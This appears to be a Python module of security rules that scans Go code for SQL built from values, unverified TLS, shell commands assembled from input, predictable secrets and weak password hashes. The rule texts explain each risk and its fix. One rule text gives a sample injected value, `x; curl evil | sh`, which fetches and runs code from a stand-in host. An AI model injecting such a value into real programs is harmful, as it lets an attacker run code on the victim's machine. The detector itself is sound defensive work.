"""Go that lets a stranger do more than they may."""

import re

from ast_grep_py import SgNode

from core.analyzers.rules import sql
from core.analyzers.rules.go.nodes import CALL, targets
from core.analyzers.rules.rule import UNGUESSABLE, Rule, called, children_of, field_text, mentions
from core.models import Category, Severity


def _runs_a_shell_line(call: SgNode) -> bool:
    """Judge `exec.Command("sh", "-c", line)`, with or without a context before it."""
    arguments = children_of(call, "arguments")
    if field_text(call, "function").endswith("Context"):
        arguments = arguments[1:]
    if len(arguments) < 3 or not re.search(r"(?:^|/)(?:ba|z|da)?sh$", arguments[0].text()[1:-1]):
        return False
    return arguments[1].text() == '"-c"' and not arguments[2].kind().endswith("string_literal")


def _names_a_secret(assignment: SgNode) -> bool:
    imports_the_weak_one = mentions(assignment.get_root().root(), r'"math/rand(?:/v2)?"')
    return imports_the_weak_one and any(re.search(UNGUESSABLE, t) for t in targets(assignment))


def _hashes_a_password(call: SgNode) -> bool:
    return mentions(call.field("arguments"), r"(?i)passw(?:or)?d|passphrase")


RULES: tuple[Rule, ...] = (
    Rule(
        id="sql-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title=sql.TITLE,
        body=sql.BODY,
        match={
            "any": [
                called(r"fmt\.Sprintf", CALL),
                {"kind": "binary_expression", "has": {"regex": r"^\+$"}},
            ]
        },
        keep=sql.builds_sql,
        outside_tests=True,
        needs=sql.NEEDS,
    ),
    Rule(
        id="tls-not-verified",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="The server's certificate is not verified",
        body=(
            "Anyone on the way can answer in the server's place, read what is sent and change the "
            "reply. For a private authority put its certificate into `RootCAs`, and leave "
            "verification on."
        ),
        match={
            "any": [
                {"kind": "keyed_element", "regex": r"^InsecureSkipVerify\s*:\s*true$"},
                {
                    "kind": "assignment_statement",
                    "regex": r"\.InsecureSkipVerify\s*=\s*true$",
                },
            ]
        },
        outside_tests=True,
        needs=r"InsecureSkipVerify",
    ),
    Rule(
        id="shell-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A shell interprets a value that is put into its command",
        body=(
            "A value such as `x; curl evil | sh` becomes a second command. Call the program itself "
            "with its arguments: `exec.Command(name, arg1, arg2)` involves no shell."
        ),
        match=called(r"exec\.Command(?:Context)?", CALL),
        keep=_runs_a_shell_line,
        outside_tests=True,
        needs=r"exec\.Command",
    ),
    Rule(
        id="guessable-secret",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A secret comes from a predictable generator",
        body=(
            "`math/rand` is made to be reproduced: from its outputs, or the time it was seeded "
            "with, the next ones follow. Use `crypto/rand`."
        ),
        match={
            "any": [{"kind": "short_var_declaration"}, {"kind": "assignment_statement"}],
            "has": {
                "field": "right",
                "regex": r"\brand\.(?:Intn?|Int31n?|Int63n?|IntN|Perm|Uint32|Uint64|Float64)\(",
            },
        },
        keep=_names_a_secret,
        outside_tests=True,
        needs=r"math/rand",
    ),
    Rule(
        id="weak-password-hash",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A fast hash protects a password",
        body=(
            "Graphics cards try billions of these hashes a second, so a stolen table gives the "
            "passwords back within hours. Use `bcrypt.GenerateFromPassword` or `argon2.IDKey`."
        ),
        match=called(r"(?:md5\.Sum|sha1\.Sum|sha256\.Sum256|sha512\.Sum512)", CALL),
        keep=_hashes_a_password,
        outside_tests=True,
        needs=r"md5\.Sum|sha1\.Sum|sha256\.Sum|sha512\.Sum",
    ),
)
